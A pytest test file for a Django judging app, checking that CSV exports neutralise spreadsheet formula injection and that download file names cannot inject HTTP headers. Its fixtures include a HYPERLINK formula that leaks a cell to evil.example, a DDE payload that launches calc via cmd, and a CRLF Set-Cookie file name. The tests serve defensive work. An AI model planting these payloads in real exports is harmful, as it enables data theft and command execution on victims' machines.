"""CSV exports open in a spreadsheet as text: a name or a rationale that starts like a formula
(OWASP CSV injection: =, +, -, @, tab, CR) gets a leading apostrophe; numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from judging.csv_export import csv_cell, csv_response
from judging.models import Judge
from judging.tests.conftest import final_checks, make_question
from judging.verdicts.services import verdict_record

pytestmark = pytest.mark.django_db

EVIL_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_JUDGE = "@SUM(1+1)*cmd|' /C calc'!A0"


def read(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("model-a", "model-a"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-0.25, -0.25),
        (-3, -3),
        (0, 0),
        (True, True),
    ],
)
def test_cells(value, cell):
    assert csv_cell(value) == cell


def test_a_hostile_file_name_cannot_break_the_header():
    response = csv_response('x"\r\nSet-Cookie: a=b', ["a"], [{"a": 1}])
    assert response["Content-Disposition"] == 'attachment; filename="x-set-cookie-ab.csv"'


@pytest.fixture
def evil_world(respond):
    judge = Judge.objects.create(name=EVIL_JUDGE)
    question = make_question("q0")
    response = respond(question, model=EVIL_MODEL)
    for check in final_checks(question):
        verdict_record(
            judge=judge,
            response=response,
            check=check,
            verdict="contradicts",
            rationale="-1 point: +contradicts the photo",
        )
    return judge


def test_leaderboard_csv(client, root, evil_world):
    client.force_login(root)
    (row,) = read(client.get(reverse("leaderboard"), {"judge": EVIL_JUDGE, "format": "csv"}))
    assert row["model"] == "'" + EVIL_MODEL
    # Every verdict contradicts: a negative score, written as a number a spreadsheet reads.
    assert row["gamut"].startswith("-") and float(row["gamut"]) < 0


def test_spot_check_agreement_csv(client, root, evil_world):
    client.force_login(root)
    (row,) = read(client.get(reverse("spot_check_results"), {"format": "csv"}))
    assert row["judge"] == "'" + EVIL_JUDGE


def test_result_table_csvs(client, root, evil_world):
    client.force_login(root)
    rows = read(client.get(reverse("results_question", args=["q0"]), {"format": "csv"}))
    assert rows and {r["model"] for r in rows} == {"'" + EVIL_MODEL}
    assert {r["judge"] for r in rows} == {"'" + EVIL_JUDGE}
    assert {r["rationale"] for r in rows} == {"'-1 point: +contradicts the photo"}
    (row,) = read(client.get(reverse("results_settings"), {"judge": EVIL_JUDGE, "format": "csv"}))
    assert row["model"] == "'" + EVIL_MODEL
    assert float(row["multimodal"]) < 0
    # The judges' scores table has a column per judge: the header is neutralised too.
    (row,) = read(client.get(reverse("results_judges"), {"format": "csv", "table": "scores"}))
    assert row["model"] == "'" + EVIL_MODEL
    assert float(row["'" + EVIL_JUDGE]) < 0
